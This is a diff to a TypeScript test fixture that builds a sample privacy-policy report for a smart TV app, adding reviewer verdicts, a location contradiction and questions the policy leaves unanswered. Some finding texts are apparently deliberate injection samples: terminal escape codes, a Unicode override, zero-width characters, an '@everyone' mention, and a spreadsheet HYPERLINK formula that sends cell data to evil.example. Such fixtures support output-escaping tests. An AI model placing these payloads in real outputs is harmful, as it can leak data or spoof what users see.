@@ -66,7 +66,7 @@ The notice board in the app cannot be switched off.
 You can ask us for a copy of your data.
 `;
 
-interface Said extends Partial<Pick<Finding, 'hedged' | 'conditions' | 'actor' | 'section' | 'lead' | 'about' | 'confidence'>> {
+interface Said extends Partial<Pick<Finding, 'hedged' | 'conditions' | 'actor' | 'section' | 'lead' | 'about' | 'confidence' | 'verdict'>> {
   readonly stance?: Finding['stance'];
   /** Which of several equal sentences, from 0. */
   readonly nth?: number;
@@ -234,6 +234,15 @@ const notSent = finding(0, 'voice/third-party', 'Voice data never leaves your de
   ...voice,
 });
 
+const kept = finding(1, 'location/retention', '- Location history is kept with your account until you delete it.', {
+  section: ['Location'],
+  verdict: { verdict: 'checked', by: 'Ada Mwangi', date: '2026-11-21' },
+});
+const notLocated = finding(0, 'location/precise', `${override}We never collect your ${zeroWidth}exact location.`, {
+  stance: 'denies',
+  ...storage,
+});
+
 const findings: readonly Finding[] = [
   sent,
   finding(0, 'voice/ambient', television.split('\n').find((line) => line.startsWith('If you turn on “Hey')) ?? '', {
@@ -264,7 +273,10 @@ const findings: readonly Finding[] = [
     section: ['Location'],
   }),
   sold,
-  finding(0, 'voice/retention', 'We keep the text of your commands for 18 months to improve the feature.', voice),
+  finding(0, 'voice/retention', 'We keep the text of your commands for 18 months to improve the feature.', {
+    ...voice,
+    verdict: { verdict: 'wrong', by: `Jo ${esc}[1mPark`, date: '2026-11-20', note: '=only the text is kept, **not** the voice @everyone' },
+  }),
   finding(0, 'voice/voiceprint', 'We may create a voice profile for each member of your household.', {
     hedged: true,
     confidence: 'low',
@@ -289,7 +301,7 @@ const findings: readonly Finding[] = [
   }),
   finding(0, 'sharing/partners', `${esc}[2J${esc}[1;1Hour insurance partners, for their own purposes`, receivers),
   finding(0, 'sharing/brokers', '=HYPERLINK("https://evil.example/?"&A1,"open") data brokers, who add what they know about you', receivers),
-  finding(1, 'location/retention', '- Location history is kept with your account until you delete it.', { section: ['Location'] }),
+  kept,
   finding(1, 'location/sharing', 'The location of your phone may be shown to other members of your household.', {
     hedged: true,
     actor: 'unclear',
@@ -316,7 +328,7 @@ const findings: readonly Finding[] = [
     conditions: ['legal-duty'],
     section: ['Who receives information'],
   }),
-  finding(0, 'location/precise', `${override}We never collect your ${zeroWidth}exact location.`, { stance: 'denies', ...storage }),
+  notLocated,
   finding(0, 'biometric/face', 'We do not use your fingerprint | face | eyes.', { stance: 'denies', ...storage }),
   finding(0, 'control/settings', 'You can switch voice features off at any time under Settings > Privacy > Voice.', {
     about: 'voice',
@@ -355,7 +367,7 @@ const controls: readonly Control[] = findings
 
 function answer(id: string): Report['practices'][string] {
   if (id === 'location/trips') return 'not-assessed';
-  const stances = new Set(findings.filter((it) => it.practice === id).map((it) => it.stance));
+  const stances = new Set(findings.filter((it) => it.practice === id && it.verdict?.verdict !== 'wrong').map((it) => it.stance));
   if (stances.size === 2) return 'both';
   return [...stances][0] ?? 'silent';
 }
@@ -389,11 +401,32 @@ export const sampleReport: Report = {
       words: 0,
     },
   ],
+  kind: 'tv',
   findings,
   practices: Object.fromEntries(practices.map(({ id }) => [id, answer(id)])),
   contradictions: [
-    { practice: 'sharing/sale', findings: [notSold.id, sold.id] },
-    { practice: 'voice/third-party', findings: [notSent.id, sent.id] },
+    { practice: 'sharing/sale', findings: [sold.id, notSold.id] },
+    { practice: 'voice/third-party', findings: [sent.id, notSent.id] },
+    {
+      practice: 'location/retention',
+      denies: 'location/precise',
+      reason: 'What is never collected cannot be kept.',
+      findings: [kept.id, notLocated.id],
+    },
+  ],
+  owed: [
+    {
+      asks: 'Is speech kept?',
+      practices: ['voice/retention'],
+      reason: 'A recording that is kept can be listened to, demanded or stolen later.',
+      answer: answer('voice/retention'),
+    },
+    {
+      asks: 'Is data sold?',
+      practices: ['sharing/sale'],
+      reason: 'Once sold, data cannot be called back.',
+      answer: answer('sharing/sale'),
+    },
   ],
   controls,
   score: null,
